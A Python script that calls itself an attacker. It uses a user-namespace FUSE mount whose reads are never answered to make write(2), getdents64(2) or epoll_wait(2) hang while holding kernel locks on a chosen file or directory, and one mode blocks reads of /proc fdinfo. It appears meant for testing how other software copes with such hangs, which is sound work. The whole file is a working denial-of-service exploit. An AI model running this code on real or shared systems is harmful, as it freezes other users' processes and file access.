"""An attacker: holds the lock of a system call, because its buffer is a page that never arrives.

    python never.py write FILE       write(2) from such a page
    python never.py getdents DIR     getdents64(2) into such a page
    python never.py epoll FILE       epoll_wait(2) into such a page, in a process that has FILE open many times, with
                                     the beginning of a command in each; then it closes copies of all of them
    python never.py namespace MOUNT  nothing of the kind: only a mount namespace that has MOUNT in it

The page belongs to a file of a FUSE filesystem that the process mounts in a user namespace of its own. Its reads are
left unanswered. Prints ``held`` when the kernel has asked for the page, then hangs until it is killed.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import select
import signal
import struct
import sys
import threading
from pathlib import Path

CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
SYS_GETDENTS64 = 217
PR_SET_PDEATHSIG = 1
LOOKUP, GETATTR, OPEN, READ, INIT = 1, 3, 14, 15, 26
ROOT, FILE, SIZE = 1, 2, 1 << 20
OPENINGS = 64

libc = ctypes.CDLL(None, use_errno=True)


def check(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def attributes(node: int) -> bytes:
    mode = 0o040755 if node == ROOT else 0o100666
    return struct.pack("<6Q10I", node, SIZE, SIZE >> 9, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve(fd: int, asked: int) -> None:
    while True:
        request = os.read(fd, 1 << 17)
        _, opcode, unique, node = struct.unpack_from("<IIQQ", request)
        if opcode == INIT:
            body = struct.pack("<4I2H2I2HI7I", 7, 31, 1 << 16, 0, 0, 0, 4096, 1, 0, 0, *[0] * 8)[:64]
        elif opcode == LOOKUP:
            body = struct.pack("<4Q2I", FILE, 0, 1000, 1000, 0, 0) + attributes(FILE)
        elif opcode == GETATTR:
            body = struct.pack("<Q2I", 1000, 0, 0) + attributes(node)
        elif opcode == OPEN:
            body = struct.pack("<Q2I", 0, 0, 0)
        elif opcode == READ:
            os.write(asked, b"held\n")
            continue
        else:
            continue
        os.write(fd, struct.pack("<IiQ", 16 + len(body), 0, unique) + body)


def page_that_never_arrives(asked: int) -> mmap.mmap:
    """A writable page that the kernel waits for; ``asked`` gets a line when it begins to."""
    uid, gid = os.getuid(), os.getgid()
    point = "/tmp"  # in a new mount namespace
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        Path(f"/proc/self/{name}").write_text(text)
    fd = os.open(os.environ.get("FUSE_DEVICE", "/dev/fuse"), os.O_RDWR)
    options = f"fd={fd},rootmode=40000,user_id=0,group_id=0"
    check(libc.mount(b"never", point.encode(), b"fuse", 0, options.encode()))
    serving = os.fork()
    if serving == 0:  # apart, so that its end ends the waiting: a thread of the waiting process could not be killed
        check(libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL, 0, 0, 0))
        serve(fd, asked)
    os.close(fd)
    file = os.open(f"{point}/page", os.O_RDWR)
    return mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)


def hold_epoll() -> None:
    """Have a descriptor of which another process holds the lock: a read of its fdinfo in /proc waits for that."""
    asked, told = os.pipe()
    polled = select.epoll()
    polled.register(os.eventfd(1), select.EPOLLIN)
    holder = os.fork()
    if holder == 0:
        kept = os.dup2(polled.fileno(), 200), os.dup2(told, 201)
        os.closerange(3, 200)  # FILE: its close in an exit would wait for the one who waits for this process
        page = page_that_never_arrives(kept[1])
        address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        libc.epoll_wait(kept[0], address, 1, -1)
        os._exit(1)
    os.read(asked, 1)
    os.dup2(polled.fileno(), 0)  # it is the first in a listing


def close_copies(path: str) -> None:
    opened = [os.open(path, os.O_WRONLY) for _ in range(OPENINGS)]
    for fd in opened:
        os.write(fd, b"x" * 512)
    hold_epoll()
    closing = [threading.Thread(target=os.close, args=(os.dup(fd),)) for fd in opened]
    for each in closing:
        each.start()
    closing[-1].join(1)  # it has ended, or they all wait
    print("held", flush=True)
    signal.pause()


def main() -> None:
    what, path = sys.argv[1:]
    if what == "epoll":
        close_copies(path)
    if what == "namespace":
        check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
        print("held" if os.path.ismount(path) else "", flush=True)
        signal.pause()
    held = os.open(path, os.O_WRONLY if what == "write" else os.O_RDONLY | os.O_DIRECTORY)
    page = page_that_never_arrives(sys.stdout.fileno())
    address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if what == "write":
        libc.write(held, address, ctypes.c_size_t(64))
    else:
        libc.syscall(ctypes.c_long(SYS_GETDENTS64), held, address, ctypes.c_size_t(4096))


if __name__ == "__main__":
    main()
